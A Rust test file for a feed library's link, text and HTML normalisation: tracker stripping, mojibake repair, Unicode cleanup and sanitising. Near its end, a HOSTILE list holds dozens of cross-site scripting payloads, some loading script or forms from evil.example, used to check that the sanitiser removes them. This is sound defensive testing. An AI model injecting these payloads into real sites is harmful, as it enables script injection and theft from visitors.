//! Links, text and markup made strict and safe.

mod privacy;

use almenara::model::{Text, link_key};
use almenara::refine::normalise::{links, text, title};
use proptest::prelude::*;
use url::Url;

fn base() -> Url {
    Url::parse("https://www.example.org/en/alerts/").unwrap()
}

fn resolved(written: &str) -> String {
    links::resolve(written, Some(&base())).map_or_else(|| "none".to_owned(), String::from)
}

fn html(markup: &str) -> Text {
    Text::Html(markup.to_owned())
}

fn summary(text: &Text) -> String {
    text::excerpt(text, Some(&base())).text
}

fn safe(markup: &str) -> String {
    text::excerpt(&html(markup), Some(&base())).html.unwrap_or_default()
}

#[test]
fn links_are_absolute_and_on_the_web() {
    for (written, expected) in [
        ("/en/2019/05/alert/", "https://www.example.org/en/2019/05/alert/"),
        ("alert-1", "https://www.example.org/en/alerts/alert-1"),
        ("?page=2", "https://www.example.org/en/alerts/?page=2"),
        ("//other.example/a", "https://other.example/a"),
        ("HTTP://Example.ORG:80/A", "http://example.org/A"),
        ("https://example.org:443/a", "https://example.org/a"),
        ("https://example.org:8443/a", "https://example.org:8443/a"),
        ("https://example.org./a", "https://example.org/a"),
        ("https://user:secret@example.org/a", "https://example.org/a"),
        (" \u{a0}\u{200b}https://example.org/a\u{feff}\n", "https://example.org/a"),
        ("https://example.org/detención", "https://example.org/detenci%C3%B3n"),
        ("javascript:alert(1)", "none"),
        ("\u{a0}javascript:alert(1)", "none"),
        ("\u{2003}\u{1}java\nscript:alert(1)", "none"),
        ("JaVaScRiPt:alert(1)", "none"),
        ("data:text/html,<script>", "none"),
        ("\u{feff}data:text/html,x", "none"),
        ("vbscript:x", "none"),
        ("file:///etc/passwd", "none"),
        ("ftp://example.org/a", "none"),
        ("mailto:desk@example.org", "none"),
        ("http://", "none"),
        ("http://./", "none"),
        ("", "none"),
        (" ", "none"),
    ] {
        assert_eq!(resolved(written), expected, "{written:?}");
    }
    assert_eq!(links::resolve("/relative", None), None);
    assert_eq!(resolved(&format!("https://example.org/{}", "a".repeat(5000))), "none", "too long");
    let grows = format!("https://example.org/{}", "é".repeat(1000));
    assert_eq!(resolved(&grows), "none", "too long once it is encoded");
}

#[test]
fn links_lose_trackers_redirectors_and_jumps() {
    for (written, expected) in [
        ("https://example.org/a?utm_source=rss&utm_medium=feed", "https://example.org/a"),
        ("https://example.org/a?id=7&fbclid=x&UTM_Campaign=y&lang=es", "https://example.org/a?id=7&lang=es"),
        ("https://example.org/a?mc_cid=1&amp;utm_source=2", "https://example.org/a"),
        ("https://example.org/a?id=3#respond", "https://example.org/a?id=3"),
        ("https://example.org/a#more-1234", "https://example.org/a"),
        ("https://example.org/a#comment-12", "https://example.org/a"),
        ("https://example.org/a#xtor=RSS-1", "https://example.org/a"),
        ("https://example.org/a#:~:text=defender", "https://example.org/a"),
        ("https://example.org/alerts#alert-2019-3", "https://example.org/alerts#alert-2019-3"),
        ("https://example.org/#!/case/7", "https://example.org/#!/case/7"),
        ("https://www.google.com/url?sa=t&url=https%3A%2F%2Fexample.org%2Fa%3Futm_source%3Dx", "https://example.org/a"),
        ("https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.org%2Fa&h=AT0", "https://example.org/a"),
        (
            "https://l.facebook.com/l.php?u=javascript%3Aalert(1)",
            "https://l.facebook.com/l.php?u=javascript%3Aalert(1)",
        ),
        (
            "https://notgoogle.com/url?url=https%3A%2F%2Fexample.org",
            "https://notgoogle.com/url?url=https%3A%2F%2Fexample.org",
        ),
    ] {
        assert_eq!(resolved(written), expected, "{written:?}");
    }
}

#[test]
fn two_ways_to_write_one_address_have_one_key() {
    let key = |text: &str| link_key(&links::resolve(text, None).unwrap());
    let same = "example.org/a%C3%B3?b=1&c=2";
    for written in [
        "https://example.org/a%C3%B3?b=1&c=2",
        "http://www.example.org/a%c3%b3/?c=2&b=1",
        "https://EXAMPLE.org:443/a%C3%B3?utm_source=x&c=2&b=1#alert-3",
    ] {
        assert_eq!(key(written), same, "{written}");
    }
}

#[test]
fn an_organisation_owns_its_hosts_and_what_is_below_them() {
    let hosts = ["example.org".to_owned()];
    let on = |text: &str| links::is_on(&Url::parse(text).unwrap(), &hosts);
    assert!(on("https://example.org/a") && on("https://www.example.org/") && on("https://es.example.org/"));
    assert!(!on("https://notexample.org/") && !on("https://example.org.evil.example/") && !on("https://127.0.0.1/"));
}

#[test]
fn markup_becomes_words_with_spaces_between_blocks() {
    for (markup, expected) in [
        ("<p>One.</p><p>Two.</p>", "One. Two."),
        ("a<br>b<br/>c", "a b c"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("un<b>believ</b>able", "unbelievable"),
        ("  much \n\t space&nbsp;&nbsp;here ", "much space here"),
        ("<td>a</td><td>b</td>", "a b"),
        ("caf&eacute; &amp; bread &#8220;x&#8221; &lt;3", "café & bread “x” <3"),
        ("before<script>alert('<b>x</b>')</script><style>p{}</style>after", "beforeafter"),
        ("a<!-- secret -->b", "ab"),
        ("a<span style='display: none'>spam <span>x</span> more</span>b", "ab"),
        ("<img src=x alt=picture>text", "text"),
        ("<iframe src=x>inner</iframe><noscript><img src=y></noscript>text", "text"),
        ("five < six & seven > two", "five < six & seven > two"),
        ("<img src='data:image/png;base64,LONG'>text", "text"),
        ("fewer than <3 and LONG", "fewer than <3 and LONG"),
        ("<p>unclosed <b>tags", "unclosed tags"),
    ] {
        let long = "word ".repeat(8000);
        let (markup, expected) = (markup.replace("LONG", &long), expected.replace("LONG", &long));
        assert_eq!(text::content(&html(&markup))[..expected.len().min(900)], expected[..expected.len().min(900)]);
    }
}

#[test]
fn what_was_escaped_once_too_often_is_read_as_meant() {
    for (given, expected) in [
        (html("&lt;p&gt;A &lt;b&gt;bold&lt;/b&gt; word&lt;/p&gt;"), "A bold word"),
        (html("&amp;lt;p&amp;gt;Twice&amp;lt;/p&amp;gt;"), "Twice"),
        (html("women&amp;#8217;s rights &amp;amp; land"), "women’s rights & land"),
        (Text::Plain("women&#8217;s rights &amp; land".into()), "women’s rights & land"),
        (Text::Plain("<p>Markup in <em>plain</em> text</p>".into()), "Markup in plain text"),
        (Text::Plain("1 < 2 > 0 and R&D; AT&T".into()), "1 < 2 > 0 and R&D; AT&T"),
        (Text::Plain("use of <script>".into()), "use of"),
    ] {
        assert_eq!(summary(&given), expected, "{given:?}");
    }
}

#[test]
fn mojibake_is_mended_where_it_is_certain() {
    for (given, expected) in [
        ("La defensora MarÃ\u{ad}a fue detenida", "La defensora María fue detenida"),
        ("Womenâ€™s rights â€“ now", "Women’s rights – now"),
        ("Â¿DÃ³nde estÃ¡n?", "¿Dónde están?"),
        ("Ð—Ð°Ñ‰Ð¸Ñ‚Ð½Ð¸ÐºÐ¸", "Защитники"),
        ("detención arbitraria", "detención arbitraria"),
        ("IRMÃ» disse", "IRMÃ» disse"),
        ("São Paulo – ação", "São Paulo – ação"),
        ("Ã la carte, façon", "Ã la carte, façon"),
        ("حماية المدافعين", "حماية المدافعين"),
        ("naïve — “Ângela” €5", "naïve — “Ângela” €5"),
    ] {
        assert_eq!(text::title(&Text::Plain(given.into())), expected);
    }
}

#[test]
fn characters_that_deceive_are_gone_and_those_a_script_needs_stay() {
    for (given, expected) in [
        ("abc\u{202e}fdp.exe", "abcfdp.exe"),
        ("zero\u{200b}width\u{feff}", "zerowidth"),
        ("a\u{0}b\u{7}c\u{1b}[31mred\u{9b}", "abc[31mred"),
        ("tag\u{e0041}\u{e0042}", "tag"),
        ("icon\u{f101}", "icon"),
        ("soft\u{ad}hyphen", "softhyphen"),
        ("lines\u{2028}and\u{85}more", "lines and more"),
        ("می\u{200c}خواهم", "می\u{200c}خواهم"),
        ("क\u{94d}\u{200d}ष", "क\u{94d}\u{200d}ष"),
        ("de\u{200c}fender", "defender"),
        ("👩\u{200d}⚖\u{fe0f} free", "👩\u{200d}⚖\u{fe0f} free"),
        ("e\u{301}", "é"),
        ("z\u{300}\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}", "z\u{300}\u{301}\u{302}\u{303}"),
        ("\u{3164}\u{115f}", ""),
    ] {
        assert_eq!(text::title(&Text::Plain(given.into())), expected, "{given:?}");
    }
}

#[test]
fn shortcodes_go_and_what_people_write_in_brackets_stays() {
    for (given, expected) in [
        ("[vc_row full_width=\"stretch\"][vc_column width='1/2']Statement[/vc_column][/vc_row]", "Statement"),
        ("[et_pb_section fb_built=”1″]Alert on the river", "Alert on the river"),
        ("[caption id=\"attachment_7\" align=\"left\"]A march[/caption] Text", "A march Text"),
        ("[gallery ids=\"1,2\"]Text", "Text"),
        ("Cut off [vc_column_text css=\".vc_custom", "Cut off"),
        ("[UPDATE] After the march […]", "[UPDATE] After the march […]"),
        (
            "[Urgent Alert] HONDURAS / [sic] [her] [Français / English]",
            "[Urgent Alert] HONDURAS / [sic] [her] [Français / English]",
        ),
        ("[video] The march", "The march"),
        ("[see page 3] and [x = 4]", "[see page 3] and [x = 4]"),
    ] {
        assert_eq!(summary(&Text::Plain(given.into())), expected);
    }
}

#[test]
fn what_publishing_systems_add_to_excerpts_goes() {
    for (given, expected) in [
        ("The office was searched […] Read more »", "The office was searched […]"),
        ("The office was searched… <a href='/a'>Read More</a>", "The office was searched…"),
        (
            "<p>The office was searched.</p><p>The post <a href=x>Office searched</a> appeared first on <a href=y>Example Network</a>.</p>",
            "The office was searched.",
        ),
        ("La oficina fue allanada. Leer más", "La oficina fue allanada."),
        ("La oficina fue allanada. La entrada Oficina se publicó primero en Red Ejemplo.", "La oficina fue allanada."),
        ("Le bureau a été fouillé. Lire la suite →", "Le bureau a été fouillé."),
        ("O escritório foi revistado. Leia mais...", "O escritório foi revistado."),
        ("Das Büro wurde durchsucht. Weiterlesen", "Das Büro wurde durchsucht."),
        ("فتش المكتب. اقرأ المزيد", "فتش المكتب."),
        ("Офис обыскали. Читать далее", "Офис обыскали."),
        ("The office was searched. Continue reading “Office searched”", "The office was searched."),
        ("Read more", ""),
        ("They asked to read more", "They asked to read more"),
        ("The post office was searched", "The post office was searched"),
    ] {
        assert_eq!(summary(&html(given)), expected);
    }
}

#[test]
fn titles_and_summaries_are_cut_at_a_word() {
    let long = "defenders of water ".repeat(100);
    let title = text::title(&Text::Plain(long.clone()));
    assert!(
        title.chars().count() <= text::MAX_TITLE && title.ends_with("water…")
            || title.ends_with("of…")
            || title.ends_with("defenders…"),
        "{title}"
    );
    let excerpt = text::excerpt(&Text::Plain(long), None);
    assert!(excerpt.text.chars().count() <= text::MAX_SUMMARY);
    assert!(
        excerpt.rest.starts_with("defenders") || excerpt.rest.starts_with("of") || excerpt.rest.starts_with("water")
    );
    let unparted = text::title(&Text::Plain("水".repeat(1000)));
    assert_eq!(unparted.chars().count(), text::MAX_TITLE);
}

#[test]
fn a_missing_title_is_made_from_the_first_sentence() {
    for (summary, expected) in [
        (
            "Two defenders were taken from their homes on Sunday. Their families ask for help.",
            "Two defenders were taken from their homes on Sunday",
        ),
        (
            "Alert! Two defenders were taken from their homes. More follows.",
            "Alert! Two defenders were taken from their homes",
        ),
        ("Short but all there is […]", "Short but all there is…"),
        (
            "¿Dónde están las dos defensoras de Ejemplo? Sus familias las buscan.",
            "¿Dónde están las dos defensoras de Ejemplo?",
        ),
        ("", ""),
    ] {
        assert_eq!(title::from_summary(summary), expected);
    }
    let long = title::from_summary(&"and so on ".repeat(50));
    assert!(long.chars().count() <= title::MAX_MADE && long.ends_with('…'), "{long}");
    let link = |text: &str| title::from_link(&Url::parse(text).unwrap());
    assert_eq!(link("https://example.org/2019/05/two-defenders-taken.html"), "two defenders taken");
    assert_eq!(link("https://example.org/detenci%C3%B3n_de_dos/"), "detención de dos");
    assert_eq!(link("https://example.org/"), "example.org");
}

#[test]
fn only_a_handful_of_tags_comes_through() {
    for (markup, expected) in [
        ("<p>One</p><p>Two <b>bold</b></p>", "<p>One</p><p>Two <b>bold</b></p>"),
        ("<p>Only one</p>", ""),
        ("plain", ""),
        ("<div><span class=x>no</span> markup</div>", ""),
        (
            "<a href='/a?utm_source=x'>link</a>",
            "<a href=\"https://www.example.org/a\" rel=\"noopener nofollow noreferrer\">link</a>",
        ),
        (
            "<a href='mailto:desk@example.org'>mail</a> <em>x</em>",
            "<a href=\"mailto:desk@example.org\" rel=\"noopener nofollow noreferrer\">mail</a> <em>x</em>",
        ),
        ("<p dir=rtl lang=ar>نص</p><p dir=evil lang='x\"y'>b</p>", "<p dir=\"rtl\" lang=\"ar\">نص</p><p>b</p>"),
        ("<ul><li>one<li>two</ul>", "<ul><li>one</li><li>two</li></ul>"),
        ("<b></b><i> </i><em>x</em>", "<em>x</em>"),
        ("a<br>b", "a<br>b"),
    ] {
        assert_eq!(safe(markup), expected, "{markup}");
    }
}

#[test]
fn no_hostile_markup_comes_through() {
    for attack in HOSTILE {
        for given in [
            (*attack).to_owned(),
            format!("<b>x</b>{attack}"),
            format!("<p>{attack}</p><i>y</i>"),
            attack.replace('<', "&lt;"),
        ] {
            let safe = safe(&given).to_lowercase();
            for bad in [
                "<script", "<style", "<img", "<svg", "<math", "<iframe", "<form", "<input", "<object", "<embed",
                "<base", "<meta", "<link",
            ] {
                assert!(!safe.contains(bad), "{bad} in {safe} from {given}");
            }
            for tag in safe.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default()) {
                for bad in
                    ["javascript:", "data:", "vbscript:", " on", "style=", "src", "srcset", "background", "expression("]
                {
                    assert!(!tag.contains(bad), "{bad} in <{tag}> from {given}");
                }
            }
        }
    }
}

#[test]
fn markup_that_would_take_minutes_takes_none() {
    for bomb in [
        "<div>".repeat(50_000),
        "<b>".repeat(50_000),
        "<a href=x>".repeat(25_000),
        "<ul><li>".repeat(25_000),
        "<p><b></p>".repeat(12_000),
        "<b><i></b></i>x".repeat(12_000),
        format!("<p {}>x", "a=1 ".repeat(50_000)),
        format!("<p {}", "b ".repeat(50_000)),
        "<svg><math>".repeat(12_000),
        "<".repeat(125_000),
        "&".repeat(125_000),
        "&amp;amp;lt;p&amp;amp;gt;".repeat(5_000),
        "[vc_row ".repeat(15_000),
        "[a x=".repeat(15_000),
        "The post ".repeat(15_000),
        "Ã".repeat(100_000),
        "read more ".repeat(15_000),
        "<!--".repeat(25_000),
        "e\u{301}\u{302}".repeat(25_000),
    ] {
        for given in [html(&bomb), Text::Plain(bomb.clone())] {
            let one = std::time::Instant::now();
            text::excerpt(&given, Some(&base()));
            text::title(&given);
            let took = one.elapsed();
            assert!(took.as_secs_f32() < 4.0, "{took:?} for {}", &bomb[..bomb.floor_char_boundary(20)]);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn what_is_normal_stays_as_it_is(text in "\\PC{0,60}") {
        let once = text::title(&Text::Plain(text));
        prop_assert_eq!(text::title(&Text::Plain(once.clone())), once);
    }

    #[test]
    fn links_are_normal_after_once(path in "[a-zA-Z0-9%/?&=#._~:@ -]{0,40}") {
        if let Some(once) = links::resolve(&path, Some(&base())) {
            let twice = links::resolve(once.as_str(), None);
            prop_assert_eq!(twice.as_ref().map(Url::as_str), Some(once.as_str()));
            prop_assert_eq!(link_key(&once), link_key(&twice.unwrap()));
        }
    }

    #[test]
    fn no_soup_of_tags_is_unsafe_or_unbounded(
        parts in prop::collection::vec("<(/?)(p|b|a href='javascript:x'|li|ul|svg|script|style|math|img src=x onerror=y|br|!--|textarea|title)>|[a-z&;<>\"' ]{0,6}", 0..30)
    ) {
        let soup = parts.concat();
        let safe = safe(&soup);
        prop_assert_eq!(ammonia::clean(&safe).replace(" rel=\"noopener noreferrer\"", ""), ammonia::clean(&ammonia::clean(&safe)).replace(" rel=\"noopener noreferrer\"", ""));
        prop_assert!(!safe.contains("javascript:") || !safe.contains("href"));
        for bad in ["<svg", "<script", "<style", "<img", "<math", "<textarea"] {
            prop_assert!(!safe.contains(bad), "{} from {}", safe, soup);
        }
        let _ = summary(&html(&soup));
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='\u{a0}javascript:alert(1)'>x</a>",
    "<a href='\u{2003}\u{200b}JavaScript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://example.org/' onclick='alert(1)' style='color:red' target=_blank>x</a>",
    "<a href=\"https://example.org/&quot;onmouseover=alert(1)\">x</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src='https://evil.example/'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example/'><input name=a><button>go</button></form>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example/x.png)'>x</p>",
    "<table background='https://evil.example/x.png'><tr><td>x</td></tr></table>",
    "<video poster=https://evil.example/x.png src=x onerror=alert(1)></video>",
    "<p onmouseover=alert(1)>x</p>",
    "<b/onclick=alert(1)//>x</b>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<template><script>alert(1)</script></template>",
    "<a lang='\"><script>alert(1)</script>' href='/x'>x</a>",
    "<p dir='\"><img src=x>'>x</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
];
